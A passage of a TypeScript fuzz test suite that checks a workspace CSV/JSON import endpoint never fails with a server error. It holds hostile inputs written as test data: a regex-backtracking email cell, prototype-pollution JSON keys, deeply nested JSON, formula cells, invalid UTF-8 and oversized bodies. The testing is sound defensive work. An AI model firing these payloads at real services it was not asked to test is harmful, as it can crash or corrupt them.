    ];
    const rows = r.rows.map((picks) => [
      ...columns.map((c, i) => {
        const values = VALID_CELLS[c] ?? ["x"];
        return values[picks[i % picks.length]! % values.length]!;
      }),
      ...(r.extraCells ? ["surplus"] : []),
    ]);
    for (const [row, col, value] of r.cells) {
      const target = rows[row % Math.max(rows.length, 1)];
      if (target) target[col % target.length] = value;
    }
    const lines = [columns, ...rows].map((cells) => cells.map((c) => quoteCell(c, r.quoteAll)).join(","));
    let textBody = r.bom + lines.join(r.newline) + r.newline;
    if (r.openQuote !== undefined) {
      const at = r.openQuote % (textBody.length + 1);
      textBody = `${textBody.slice(0, at)}"${textBody.slice(at)}`;
    }
    let bytes = encode(textBody);
    if (r.invalidUtf8) {
      const [bad, at] = r.invalidUtf8;
      const pos = at % (bytes.length + 1);
      bytes = new Uint8Array([...bytes.subarray(0, pos), ...bad, ...bytes.subarray(pos)]);
    }
    return { bytes, dryRun: r.dryRun, label: abbreviate(JSON.stringify(new TextDecoder().decode(bytes))) };
  });

interface ImportProblem {
  detail: string;
  problems?: { path: string; message: string }[];
}

async function importCase(
  body: BodyInit,
  dryRun: boolean,
  label: string,
  type = "text/csv",
): Promise<number> {
  const before = await snapshot();
  const where = `import${dryRun ? " (dry run)" : ""} ${label}`;
  const res = await send(
    "POST",
    `/api/v1/workspaces/${ids.workspaceId}/import${dryRun ? "?dryRun=true" : ""}`,
    body,
    {
      "content-type": type,
    },
  );
  const copy = res.clone();
  const status = await expectHandled(res, where, before, false);
  if (status >= 400) {
    const problem = (await copy.json()) as ImportProblem;
    for (const p of problem.problems ?? []) {
      // A problem with the document as a whole has an empty path; the message must say something.
      expect(typeof p.path, where).toBe("string");
      expect(p.message, where).toMatch(/\S/);
    }
  } else if (dryRun) {
    expect(await snapshot(), `${where}: a dry run wrote to the database`).toBe(before);
  }
  return status;
}

describe("the CSV importer survives generated sheets", () => {
  it("generated sheets with formulas, odd columns, BOMs, open quotes and invalid UTF-8: 4xx or 2xx, never 5xx", async () => {
    routesRun.add("POST /api/v1/workspaces/{workspaceId}/import");
    const statuses: number[] = [];
    await fc.assert(
      fc.asyncProperty(csvArb, async ({ bytes, dryRun, label }) => {
        statuses.push(await importCase(bytes, dryRun, label));
      }),
      { seed: seedOf("csv"), numRuns: 60, endOnFailure: true },
    );
    // The generator must reach both outcomes, or it tests only the parser.
    expect(statuses.some((s) => s === 200)).toBe(true);
    expect(statuses.some((s) => s === 400)).toBe(true);
  }, 60_000);

  it("a header of 100,000 columns in one line is a 400 with a reason, quickly", async () => {
    const header = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(",");
    for (const dryRun of [true, false])
      expect(await importCase(`${header}\n1,2,3\n`, dryRun, "100k columns")).toBe(400);
  });

  it("an email cell crafted to make a naive email regex backtrack is refused as not an email", async () => {
    // The pattern itself is proven linear by regex-safety.test.ts; this checks the cell is refused.
    const cell = `a@a${".a".repeat(15_000)}.@..a`;
    const sheet = `platform,account,account_org,subject,role,email\ntiktok,Client BC,Client Co,Carla,admin,${cell}\n`;
    expect(await importCase(sheet, true, "backtracking email cell")).toBe(400);
  });

  it("a sheet of valid rows whose cells are formulas is refused or imported, never a 5xx", async () => {
    const header = "platform,account,account_org,subject,role,email,notes";
    for (const formula of FORMULAS) {
      const row = ["tiktok", formula, "Client Co", formula, "admin", "", formula].map((c) =>
        quoteCell(c, false),
      );
      await importCase(`${header}\n${row.join(",")}\n`, true, `formula ${JSON.stringify(formula)}`);
    }
  });

  it("hostile JSON through the import route: deep nesting, prototype keys, not an export", async () => {
    const bodies = [
      `${'{"a":'.repeat(DEEP)}1${"}".repeat(DEEP)}`,
      `${"[".repeat(DEEP)}${"]".repeat(DEEP)}`,
      '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}',
      '{"format":"delvia-export","__proto__":{"polluted":"yes"}}',
      "null",
      "1e309",
      '"just a string"',
    ];
    for (const body of bodies)
      expect(
        await importCase(body, false, `JSON ${abbreviate(body)}`, "application/json"),
      ).toBeGreaterThanOrEqual(400);
  });

  it("an import over its own limit, with Content-Length or chunked, is a 413 problem", async () => {
    const before = await snapshot();
    const declared = await send("POST", `/api/v1/workspaces/${ids.workspaceId}/import`, "platform\n", {
      "content-type": "text/csv",
      "content-length": String(MAX_IMPORT_BYTES + 1),
    });
    expect(declared.status).toBe(413);
    await expectHandled(declared, "import with Content-Length over the limit", before, true);

    const chunk = encode(`${"tiktok,x,y,z,admin\n".repeat(1024 * 16)}`);
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0) controller.enqueue(encode("platform,account,account_org,subject,role\n"));
        if (sent > MAX_IMPORT_BYTES) {
          controller.close();
          return;
        }
        controller.enqueue(chunk);
        sent += chunk.length;
      },
    });
    const chunked = await send("POST", `/api/v1/workspaces/${ids.workspaceId}/import`, stream, {
      "content-type": "text/csv",
    });
    expect(chunked.status).toBe(413);
    await expectHandled(chunked, "import chunked over the limit", before, true);
  });
});
